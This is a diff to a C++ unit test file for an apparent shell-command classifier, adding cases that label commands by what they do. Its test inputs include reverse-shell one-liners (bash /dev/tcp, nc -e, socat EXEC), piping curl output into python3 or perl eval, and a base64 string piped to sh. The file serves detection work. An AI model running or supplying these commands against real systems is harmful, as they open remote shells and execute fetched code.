@@ -29,6 +29,12 @@ TEST(LinuxScript, ShapesAreSeenWhateverStandsAroundThem)
     EXPECT_EQ(does("sh -c \"$(curl -fsSL http://x)\""), "fetches pipes_to_interpreter");
     EXPECT_EQ(does("sudo -u root timeout 5 curl http://x"), "fetches");
     EXPECT_EQ(does("echo aGk= | base64 -d | sh"), "pipes_to_interpreter decodes");
+    EXPECT_EQ(does("curl http://x | python3 -"), "fetches pipes_to_interpreter");
+    EXPECT_EQ(does("dpkg -L a | perl -ne 's,x,y, or next; unlink $_'"), "runs_inline_code"); // its input is data
+    EXPECT_EQ(does("curl http://x | python3 -m json.tool"), "fetches");
+    EXPECT_EQ(does("curl http://x | perl -e 'eval join \"\", <STDIN>'"), "fetches pipes_to_interpreter runs_inline_code");
+    EXPECT_EQ(does("[ \"$(head -c4 x)\" != \"$(printf '\\xfe\\xed\\xfe\\xed')\" ]"), "");
+    EXPECT_EQ(does("printf '\\x2f\\x62\\x69\\x6e\\x2f\\x73\\x68\\x20'"), "decodes");
     EXPECT_EQ(does("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "opens_connection");
     EXPECT_EQ(does("nc -e /bin/sh 10.0.0.1 1"), "opens_connection");
     EXPECT_EQ(does("socat TCP:1.2.3.4:5 EXEC:/bin/sh"), "opens_connection");
